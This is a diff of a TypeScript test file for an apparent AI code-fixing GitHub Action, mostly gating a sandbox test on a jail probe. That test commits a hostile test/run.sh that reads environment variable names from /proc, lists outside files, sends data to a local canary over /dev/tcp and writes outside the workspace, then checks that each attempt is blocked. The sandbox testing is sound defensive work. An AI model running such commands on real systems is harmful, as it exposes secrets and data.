@@ -6,29 +6,32 @@ import { openSample, type SampleWorld } from "../../demo/sample-world.ts";
 import { edits } from "../../demo/scenario/fixes.ts";
 import { scripts } from "../../demo/scenario/scripts.ts";
 import type { RunResult } from "../../src/model/result.ts";
+import { agentsToolCache } from "../world/agents.ts";
 import { listTree } from "../world/git/tree.ts";
 import type { Pull } from "../world/github/entity/pull.ts";
 import { expectClean } from "../world/github/expect-clean.ts";
+import { probeOwnJail } from "../world/jail.ts";
 import { replace } from "../world/models/call.ts";
 import type { ModelRequest } from "../world/models/request.ts";
 import type { Step } from "../world/models/step.ts";
 import type { UsesOptions } from "../world/runner/runner.ts";
 import { temporaryFolder } from "../world/temporary-folder.ts";
-import { action, agentInputs } from "./agents.ts";
+import { action } from "./agents.ts";
 
 // A run of four agents each, some tests two of them.
 vi.setConfig({ testTimeout: 120_000 });
 
 /** For what does not depend on how many fixes there are. */
 const quick = { "max-fixes": "3", vote: "false" };
-const cache = await temporaryFolder("cache");
+const toolCache = await agentsToolCache();
+const probe = await probeOwnJail();
 const asSample = scripts({ thinkMs: 0 });
 const sampleFixer = asSample[2]?.steps as (request: ModelRequest) => Step;
 
 /** The sample with another fixer. */
 async function open(fixer: (request: ModelRequest) => Step | Promise<Step> = sampleFixer) {
   const fixing = { vendor: "gemini", steps: fixer } as const;
-  return await openSample({ scripts: [...asSample.slice(0, 2), fixing], toolCache: cache.path });
+  return await openSample({ scripts: [...asSample.slice(0, 2), fixing], toolCache });
 }
 
 async function use(
@@ -37,7 +40,7 @@ async function use(
   over: Partial<UsesOptions> = {},
 ) {
   const event = over.event ?? (await world.github.event("pull_request", "opened", world.pull));
-  const all = { ...world.inputs, ...(await agentInputs()), ...inputs };
+  const all = { ...world.inputs, ...inputs };
   const step = await world.runner.uses({ action, event, inputs: all, ...over });
   expect(step.conclusion, step.log.join("\n")).toBe("success");
   const report = JSON.parse(await readFile(step.outputs.report ?? "", "utf8")) as RunResult;
@@ -213,7 +216,7 @@ it("pushes the fixes of an executable file with git, signs the others, and undoe
   for (let at = 0; at < 7; at += 1) {
     const comment = github.comment(pull, { author: "alice", body: "/crosscheck undo" });
     const event = await github.event("issue_comment", "created", comment);
-    const inputs = { ...world.inputs, ...(await agentInputs()) };
+    const inputs = { ...world.inputs };
     await world.runner.uses({ action, event, inputs });
     expect(comment.reactions.map((one) => one.content)).toEqual(["eyes", "rocket"]);
     const answer = pull.comments.at(-1)?.body ?? "";
@@ -228,55 +231,58 @@ it("pushes the fixes of an executable file with git, signs the others, and undoe
   settled(world);
 });
 
-it("keeps the pull request's code in a jail while verify executes it", async () => {
-  await using outside = await temporaryFolder("outside");
-  let connections = 0;
-  const canary = createServer((socket) => {
-    connections += 1;
-    socket.end();
-  });
-  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
-  const address = canary.address();
-  const port = typeof address === "object" ? address?.port : 0;
-  await using world = await open();
-  const { repository, runner, models } = world;
-  const written = join(outside.path, "written");
-  const attack = [
-    // Names only: what a failure prints must not hold this machine's values.
-    "echo ENVIRONMENT; (env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n') | cut -d= -f1",
-    `echo FILES; ls ${runner.temp} ${outside.path} ${action} 2>&1 | head -5`,
-    `echo NETWORK; (echo leak > /dev/tcp/127.0.0.1/${port}) 2>&1 | tail -1`,
-    `echo WRITE; (echo owned > ${written}) 2>&1; echo own > "$HOME/x" && echo "wrote home"`,
-    "mkdir -p locked/in && chmod 000 locked",
-    // Silent on the untouched head, so that the patch's output goes to the fixer, where the test can read it.
-    "if grep -q 'percent / 100);' src/orders/cart.ts; then exit 0; else exit 7; fi",
-  ];
-  await repository.commit("coupons", {
-    files: { "test/run.sh": `${attack.join("\n")}\n` },
-    author: "alice",
-  });
-  const inputs = { fix: "commit", verify: "bash test/run.sh", isolation: "required" };
-  const { fixOf, step } = await use(world, inputs);
-  expect(fixOf(/fractions/)).toMatchObject({ status: "rejected", verify: "failed" });
-  const [told = ""] = models.requests
-    .filter((one) => one.vendor === "gemini" && one.text.includes("own check does not pass"))
-    .map((one) => one.text);
-  expect(told).toContain("ENVIRONMENT");
-  expect(told).toContain("wrote home");
-  expect(told).not.toContain("crosscheck-report");
-  const names = (told.split("ENVIRONMENT\n")[1]?.split("\nFILES")[0] ?? "").split("\n");
-  const ofShell = ["PWD", "OLDPWD", "SHLVL", "_"];
-  const ours = ["CROSSCHECK_RUN", "CROSSCHECK_PROCESS"];
-  const allowed = ["HOME", "PATH", "TMPDIR", ...ofShell, ...ours, ""];
-  expect(names).toEqual(expect.arrayContaining(["HOME", "PATH", "TMPDIR"]));
-  expect(names.filter((name) => !allowed.includes(name))).toEqual([]);
-  expect(told).toMatch(/NETWORK\n.*(refused|unreachable)/i);
-  await expect(readFile(written)).rejects.toThrow();
-  expect(connections).toBe(0);
-  expect(step.leaks).toEqual([]);
-  settled(world);
-  await new Promise((resolve) => canary.close(resolve));
-});
+it.skipIf(probe.status !== "works")(
+  "keeps the pull request's code in a jail while verify executes it",
+  async () => {
+    await using outside = await temporaryFolder("outside");
+    let connections = 0;
+    const canary = createServer((socket) => {
+      connections += 1;
+      socket.end();
+    });
+    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
+    const address = canary.address();
+    const port = typeof address === "object" ? address?.port : 0;
+    await using world = await open();
+    const { repository, runner, models } = world;
+    const written = join(outside.path, "written");
+    const attack = [
+      // Names only: what a failure prints must not hold this machine's values.
+      "echo ENVIRONMENT; (env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n') | cut -d= -f1",
+      `echo FILES; ls ${runner.temp} ${outside.path} ${action} 2>&1 | head -5`,
+      `echo NETWORK; (echo leak > /dev/tcp/127.0.0.1/${port}) 2>&1 | tail -1`,
+      `echo WRITE; (echo owned > ${written}) 2>&1; echo own > "$HOME/x" && echo "wrote home"`,
+      "mkdir -p locked/in && chmod 000 locked",
+      // Silent on the untouched head, so that the patch's output goes to the fixer, where the test can read it.
+      "if grep -q 'percent / 100);' src/orders/cart.ts; then exit 0; else exit 7; fi",
+    ];
+    await repository.commit("coupons", {
+      files: { "test/run.sh": `${attack.join("\n")}\n` },
+      author: "alice",
+    });
+    const inputs = { fix: "commit", verify: "bash test/run.sh", isolation: "required" };
+    const { fixOf, step } = await use(world, inputs);
+    expect(fixOf(/fractions/)).toMatchObject({ status: "rejected", verify: "failed" });
+    const [told = ""] = models.requests
+      .filter((one) => one.vendor === "gemini" && one.text.includes("own check does not pass"))
+      .map((one) => one.text);
+    expect(told).toContain("ENVIRONMENT");
+    expect(told).toContain("wrote home");
+    expect(told).not.toContain("crosscheck-report");
+    const names = (told.split("ENVIRONMENT\n")[1]?.split("\nFILES")[0] ?? "").split("\n");
+    const ofShell = ["PWD", "OLDPWD", "SHLVL", "_"];
+    const ours = ["CROSSCHECK_RUN", "CROSSCHECK_PROCESS"];
+    const allowed = ["HOME", "PATH", "TMPDIR", ...ofShell, ...ours, ""];
+    expect(names).toEqual(expect.arrayContaining(["HOME", "PATH", "TMPDIR"]));
+    expect(names.filter((name) => !allowed.includes(name))).toEqual([]);
+    expect(told).toMatch(/NETWORK\n.*(refused|unreachable)/i);
+    await expect(readFile(written)).rejects.toThrow();
+    expect(connections).toBe(0);
+    expect(step.leaks).toEqual([]);
+    settled(world);
+    await new Promise((resolve) => canary.close(resolve));
+  },
+);
 
 it("opens one pull request with the fixes, and brings it up to date on the next run", async () => {
   await using world = await open();
